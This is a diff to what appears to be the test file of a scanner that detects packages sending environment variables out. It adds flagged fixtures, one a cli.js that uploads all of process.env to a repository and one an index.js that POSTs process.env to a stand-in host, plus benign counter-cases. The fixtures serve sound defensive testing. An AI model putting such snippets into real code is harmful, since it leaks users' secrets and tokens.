@@ -17,6 +17,22 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'a command puts all of it into a file of a repository, by a client of another file',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { Client } = require('./client'); const client = new Client(process.env.GIT_TOKEN); client.put('a/b', 'results.json', JSON.stringify({ env: process.env, argv: process.argv }));`,
+        'client.js': `exports.Client = class { #token; constructor(token, api = process.env.GIT_API || 'https://api.git.invalid') { this.#token = token; this.api = api; } call(method, path, body) { return fetch(this.api + path, { method, headers: { authorization: this.#token }, body: body && JSON.stringify(body) }); } put(full, path, text) { return this.call('PUT', \`/repos/\${full}/contents/\${path}\`, { content: Buffer.from(text).toString('base64') }); } };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'where it goes is a setting, and what stands in the code where nobody sets it',
+      files: {
+        'index.js': `const { COLLECT_URL = 'https://c.invalid/x' } = process.env; fetch(COLLECT_URL, { method: 'POST', body: JSON.stringify(process.env) })`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a file that nothing loads offers a hook that is told what its settings name',
       files: { 'index.js': `exports.version = 1`, 'src/hooks.js': hooked('hook.url') },
       weight: 'context',
@@ -332,6 +348,20 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     },
   ],
   silent: [
+    {
+      when: 'a command that is started in it has its output put into a file of a repository',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst out = require('child_process').execSync('npm ls', { env: process.env }); fetch('https://api.git.invalid/repos/a/b/contents/tree.txt', { method: 'PUT', body: JSON.stringify({ content: out.toString('base64') }) });`,
+      },
+    },
+    {
+      when: 'a client has its address from a setting or the code, and its own key',
+      files: {
+        'package.json': { name: 'acme', version: '1.0.0', main: 'index.js' },
+        'index.js': `const api = process.env.ACME_URL || 'https://api.acme.invalid'; exports.send = body => fetch(api + '/v1', { method: 'POST', body: JSON.stringify(body), headers: { authorization: process.env.ACME_API_KEY } })`,
+      },
+    },
     {
       when: 'a client of GitHub takes the token under either of its names',
       files: {
